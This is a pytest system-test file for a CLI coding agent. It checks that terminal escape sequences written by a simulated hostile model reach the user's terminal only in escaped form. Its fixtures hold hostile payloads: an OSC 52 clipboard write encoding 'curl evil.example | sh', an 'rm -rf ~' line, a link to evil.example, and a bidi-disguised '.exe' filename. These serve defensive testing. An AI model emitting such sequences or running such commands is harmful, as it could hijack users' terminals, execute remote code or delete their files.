"""What a hostile model writes never drives the user's terminal (issue 24 #8): real CLI
processes, every actor a process, the stand-in model server on loopback.

The model puts OSC 52 (clipboard), OSC 8 (hyperlink), OSC 0 (title), DCS, 8-bit CSI, a
lone CR, NUL and bidi overrides into a plan's titles, a write's path and content, a
command, and a question. Every byte ``acode run``, ``show``, ``approve``, ``attach``,
``plan show``, ``answer`` and the inline prompt (on a pty) print is checked: none of those
characters arrives raw; their escaped form does. ``--json`` output is valid JSON that reads
back the very characters the model sent. The tests share one acode for the module
(``shared``), each with its own server and session.
"""

from __future__ import annotations

import json
import os
import pty
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.modelserver import Json, ModelServer, ToolCalls
from tests.system.conftest import CLI, REPO, Acode, read_until
from tests.system.test_models import APPROVE, VERDICT, _configure, _workspace, done

pytestmark = pytest.mark.system

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
OSC52_ST = "\x1b]52;c;ZWNobw==\x1b\\"
OSC8 = "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\"
TITLE = "\x1b]0;pwned\x07"
HOSTILE = f"{OSC52}{OSC52_ST}{OSC8}{TITLE}\x1bP1$r\x1b\\\x9b2J\x9d0;t\x9c\x00\u202eevil\u202c\u2066x\u2069"
#: What a terminal obeys: C0 but LF and TAB (CR only before LF), DEL, C1, bidi controls.
OBEYED = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]|\r(?!\n)")
SHOWN = "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07"  # OSC 52 as the user sees it


@pytest.fixture
def server() -> Iterator[ModelServer]:
    with ModelServer() as running:
        yield running


def _plan() -> Json:
    return Json({"goal": f"notes {TITLE}", "status": "ready", "tasks": [{
        "label": "T1", "title": f"write notes{OSC8}", "complexity": 1,
        "resources": {"write": ["notes.txt"]},
        "acceptance": [{"label": "A1", "description": f"notes exist{OSC52}"}],
        "steps": [{"label": "S1", "title": f"write the notes {OSC52}\rok", "action": "write_file",
                   "expected_output": "notes.txt"}]}]})


def _clean(output: str, what: str) -> str:
    found = OBEYED.search(output)
    assert found is None, f"{what} printed {found.group()!r} raw: {output[max(found.start() - 80, 0):][:160]!r}"
    return output


def _json_clean(output: str) -> Any:
    _clean(output, "--json")
    assert not re.search("[\u0080-\u009f\u202a-\u202e\u2066-\u2069]", output)
    return [json.loads(line) for line in output.splitlines() if line.strip()]


def test_show_approve_run_and_attach_escape_what_a_model_wrote(
        shared: Acode, server: ModelServer, tmp_path: Path) -> None:
    _configure(shared, server)
    workspace = _workspace(tmp_path)
    path = f"notes{TITLE}\u202etxt.exe"
    server.by_stage(planner=[_plan()], executor=[
        ToolCalls([("write_file", {"path": path, "content": f"line one\n{HOSTILE}\nrm -rf ~\rharmless\n"})]),
        ToolCalls([("run_terminal", {"command": f"printf '{OSC52}' # {TITLE}"})]),
        done(f"done {OSC52}"), done()], verifier=[VERDICT], reviewer=[APPROVE])

    run = shared("run", "write notes", "--workspace", str(workspace), "--autonomy", "0", timeout=180)
    assert run.returncode == 33, run.stdout + run.stderr  # the write asks; non_interactive_policy: fail
    _clean(run.stdout + run.stderr, "acode run")
    assert SHOWN in run.stdout, "the step title's OSC 52 is shown, escaped"
    session_id = run.stdout.split("session ", 1)[1].split(":", 1)[0]

    shown = shared("show", session_id)
    assert shown.returncode == 0, shown.stderr
    _clean(shown.stdout + shown.stderr, "acode show")
    assert "wants to run write_file (write): notes\\x1b]0;pwned\\x07\\u202etxt.exe" in shown.stdout
    diff = [line.strip() for line in shown.stdout.splitlines()]
    assert any(line.startswith(f"+{SHOWN}") for line in diff)
    assert diff[diff.index("+rm -rf ~"):][:2] == ["+rm -rf ~", "+harmless"], "the CR overwrote nothing"

    (as_json,) = _json_clean(shared("show", session_id, "--json").stdout)
    assert as_json["session"]["approval"]["target"] == path, "--json gives back the very characters"
    assert HOSTILE in as_json["session"]["approval"]["diff"]

    approved = shared("approve", session_id, "--detach")
    assert approved.returncode == 0, approved.stderr
    _clean(approved.stdout + approved.stderr, "acode approve")
    assert "notes\\x1b]0;pwned\\x07\\u202etxt.exe" in approved.stdout

    attached = shared("attach", session_id, "--replay", "100", timeout=180)  # follows it to the command's pause
    _clean(attached.stdout + attached.stderr, "acode attach")
    assert "printf '\\x1b]52;c;" in attached.stdout
    events = _json_clean(shared("attach", session_id, "--json", "--replay", "1000").stdout)
    assert any(e.get("target") == path for e in events if isinstance(e, dict))


def test_the_inline_prompt_and_its_diff_escape_what_a_model_wrote(
        shared: Acode, server: ModelServer, tmp_path: Path) -> None:
    _configure(shared, server)
    workspace = _workspace(tmp_path)
    server.by_stage(planner=[_plan()], executor=[
        ToolCalls([("write_file", {"path": f"a{TITLE}.txt", "content": f"{HOSTILE}\n"})]), done()],
        verifier=[VERDICT], reviewer=[APPROVE])
    main, child = pty.openpty()
    proc = subprocess.Popen([*CLI, "--home", str(shared.home), "run", "write notes", "--workspace", str(workspace),
                             "--autonomy", "0"], env=shared.env, cwd=REPO, stdin=child, stdout=child, stderr=child,
                            close_fds=True)
    shared.running.append(proc)  # type: ignore[arg-type]  # killed by the fixture if the test fails
    os.close(child)
    try:
        shown = read_until(main, "[q]uit: ")
        os.write(main, b"d\n")  # the diff
        shown += read_until(main, "[q]uit: ")
        os.write(main, b"q\n")  # detach: the session waits
        shown += read_until(main, "detached: session")
        assert proc.wait(timeout=60) == 22  # the session waits for a decision
    finally:
        os.close(main)
    own = shown.replace("\r\x1b[K", "").replace("\r\n", "\n")  # the thinking line's own erase; the pty's CRLF
    _clean(own, "the inline prompt")
    assert "wants to run write_file (write): a\\x1b]0;pwned\\x07.txt" in own
    assert f"+{SHOWN}" in own, "the diff [d] shows is escaped too"
    assert not (workspace / f"a{TITLE}.txt").exists()


def test_the_planners_questions_and_answers_are_shown_escaped(
        shared: Acode, server: ModelServer, tmp_path: Path) -> None:
    _configure(shared, server)
    questions = Json({"goal": "notes", "status": "needs_clarification", "questions": [
        {"label": "Q1", "question": f"Which one?{OSC52}", "options": [f"this{TITLE}", "that\u202e"],
         "default": f"this{TITLE}", "free_text": False}]})
    server.by_stage(planner=[questions])
    run = shared("run", "write notes", "--workspace", str(_workspace(tmp_path)), timeout=180)
    assert run.returncode == 22, run.stdout + run.stderr
    _clean(run.stdout + run.stderr, "acode run")
    assert f"Which one?{SHOWN}" in run.stdout
    session_id = run.stdout.split("session ", 1)[1].split(":", 1)[0]
    plan = shared("plan", "show", session_id)
    _clean(plan.stdout + plan.stderr, "acode plan show")
    assert f"Q1. Which one?{SHOWN}" in plan.stdout and "1) this\\x1b]0;pwned\\x07" in plan.stdout
    assert "2) that\\u202e" in plan.stdout
    refused = shared("answer", session_id, "--answer", "Q1=9")
    assert refused.returncode == 1
    _clean(refused.stdout + refused.stderr, "acode answer")
    assert "Q1 has options 1 to 2, not 9" in refused.stderr
    wrong = shared("answer", session_id, "--answer", f"Q1=x{OSC52}")  # free text is not allowed here
    assert wrong.returncode == 1
    _clean(wrong.stderr, "an error quoting the model's options")
    assert "this\\x1b]0;pwned\\x07" in wrong.stderr
